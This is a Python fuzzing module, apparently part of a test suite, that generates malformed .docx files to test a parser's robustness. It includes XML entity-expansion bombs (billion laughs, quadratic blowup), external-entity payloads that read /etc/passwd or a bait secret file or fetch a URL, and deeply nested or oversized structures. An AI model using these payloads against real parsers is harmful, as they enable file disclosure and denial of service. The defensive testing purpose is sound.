"""Hostile .docx by what their XML says: entities, depths, lists and styles that no word processor writes."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from evaluation.fuzzing.made import Bait, Hostile
from evaluation.fuzzing.zips import zipped

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATED = "http://schemas.openxmlformats.org/package/2006/relationships"
SENTENCE = "<w:p><w:r><w:t>Huyện ủy họp phiên thường kỳ tháng 4, thu ngân sách đạt 41 tỷ đồng.</w:t></w:r></w:p>"
DOCUMENT = "word/document.xml"


def document(body: str, before: str = "") -> str:
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{W}" xmlns:r="{_R}"><w:body>{body}</w:body></w:document>'


def _word(make: Callable[[Random, Bait], str]) -> Hostile:
    return lambda random, bait: zipped({DOCUMENT: make(random, bait)})


def _laughs(random: Random, bait: Bait) -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return document("<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY l0 "ha">{entities}]>')


def _blowup(random: Random, bait: Bait) -> str:
    """One long entity, named often."""
    named = "&a;" * bait.times(50_000)
    return document(f"<w:p><w:r><w:t>{named}</w:t></w:r></w:p>", f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>')


def _entity(address: Callable[[Bait], str]) -> Callable[[Random, Bait], str]:
    def make(random: Random, bait: Bait) -> str:
        named = f'<!DOCTYPE d SYSTEM "{bait.url}d.dtd" [<!ENTITY x SYSTEM "{address(bait)}">]>'
        return document(f"{SENTENCE}<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", named)

    return make


def _nested(tag: str, depth: int) -> Callable[[Random, Bait], str]:
    def make(random: Random, bait: Bait) -> str:
        times = bait.times(depth) if depth > 1000 else depth
        return document(f"<w:{tag}>" * times + SENTENCE + f"</w:{tag}>" * times)

    return make


def _nested_tables(random: Random, bait: Bait) -> str:
    depth = 80  # libxml2 reads 256 levels
    return document("<w:tbl><w:tr><w:tc>" * depth + SENTENCE + "</w:tc></w:tr></w:tbl>" * depth)


def _cells(random: Random, bait: Bait) -> str:
    cell = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"
    return document(f"<w:tbl>{f'<w:tr>{cell * 100}</w:tr>' * bait.times(1000)}</w:tbl>{SENTENCE}")


def _notes(random: Random, bait: Bait) -> bytes:
    """A note that refers to itself."""
    note = f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    body = '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    return zipped({DOCUMENT: document(SENTENCE + body), "word/footnotes.xml": f"{note}</w:footnote></w:footnotes>"})


def _level(depth: str, start: str, format: str, text: str) -> str:
    said = f'<w:start w:val="{start}"/><w:numFmt w:val="{format}"/><w:lvlText w:val="{text}"/>'
    return f'<w:lvl w:ilvl="{depth}">{said}</w:lvl>'


def _listed(level: str, number: int) -> str:
    said = f'<w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr></w:pPr>'
    return f"<w:p>{said}<w:r><w:t>Một việc phải làm.</w:t></w:r></w:p>"


def _with_lists(body: str, levels: str, start: str) -> bytes:
    """A document with list 1, and list 2 that starts elsewhere."""
    kind = '<w:abstractNumId w:val="1"/>'
    override = f'<w:lvlOverride w:ilvl="0"><w:startOverride w:val="{start}"/></w:lvlOverride>'
    lists = f'<w:num w:numId="1">{kind}</w:num><w:num w:numId="2">{kind}{override}</w:num>'
    numbering = f'<w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum>{lists}'
    numbering = f'<w:numbering xmlns:w="{W}">{numbering}</w:numbering>'
    return zipped({DOCUMENT: document(body + SENTENCE), "word/numbering.xml": numbering})


def _numbering(random: Random, bait: Bait) -> bytes:
    """Lists whose levels and starts are no numbers, or absurd ones."""
    odd = random.choice(("x", "-1", "99999999999999999999", "", "²"))
    levels = _level(odd, odd, "upperRoman", "%1") + _level("0", "999999999", "lowerLetter", "%1.%9")
    return _with_lists(_listed(odd, 1) + _listed("0", 1) + _listed("0", 2) + _listed("99", 1), levels, odd)


def _roman(random: Random, bait: Bait) -> bytes:
    return _with_lists(_listed("0", 1) * bait.times(100), _level("0", "2147483647", "upperRoman", "%1"), "1")


def _letters(random: Random, bait: Bait) -> bytes:
    return _with_lists(_listed("0", 1) * bait.times(100), _level("0", "2147483647", "lowerLetter", "%1"), "1")


def _styles(random: Random, bait: Bait) -> bytes:
    """A chain of styles, each based on the next, for every one of many paragraphs."""
    count = bait.times(3000)
    styles = "".join(
        f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % count}"/></w:style>' for n in range(count)
    )
    listed = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>Huyện ủy họp.</w:t></w:r></w:p>' * bait.times(1000)
    return zipped({DOCUMENT: document(listed), "word/styles.xml": f'<w:styles xmlns:w="{W}">{styles}</w:styles>'})


def _runs(random: Random, bait: Bait) -> str:
    return document(f"<w:p>{'<w:r><w:t>a </w:t></w:r>' * bait.times(200_000)}</w:p>")


def _boxes(random: Random, bait: Bait) -> str:
    """Text boxes in text boxes: each paragraph holds all that follow."""
    depth = 60
    return document("<w:p><w:r><w:txbxContent>" * depth + SENTENCE + "</w:txbxContent></w:r></w:p>" * depth)


def _comment_tags(random: Random, bait: Bait) -> str:
    return document("<!-- a --><?x y?>" + SENTENCE + "<w:p><!-- a --><?x y?><w:r><w:t>b<!-- c -->d</w:t></w:r></w:p>")


WORD: dict[str, tuple[str, Hostile]] = {
    name: (".docx", make)
    for name, make in {
        "billion laughs": _word(_laughs),
        "quadratic entities": _word(_blowup),
        "entity of /etc/passwd": _word(_entity(lambda bait: "file:///etc/passwd")),
        "entity of a file": _word(_entity(lambda bait: bait.secret.as_uri())),
        "entity of an address": _word(_entity(lambda bait: f"{bait.url}entity")),
        "nested content controls": _word(_nested("sdt", 240)),
        "nested a thousand times": _word(_nested("sdt", 1000)),
        "nested 100k times": _word(_nested("ins", 100_000)),
        "nested tables": _word(_nested_tables),
        "100k cells": _word(_cells),
        "200k runs": _word(_runs),
        "nested text boxes": _word(_boxes),
        "comments in XML": _word(_comment_tags),
        "note that refers to itself": _notes,
        "odd numbers of lists": _numbering,
        "number of two billion in Roman": _roman,
        "number of two billion in letters": _letters,
        "a chain of 3,000 styles": _styles,
    }.items()
}
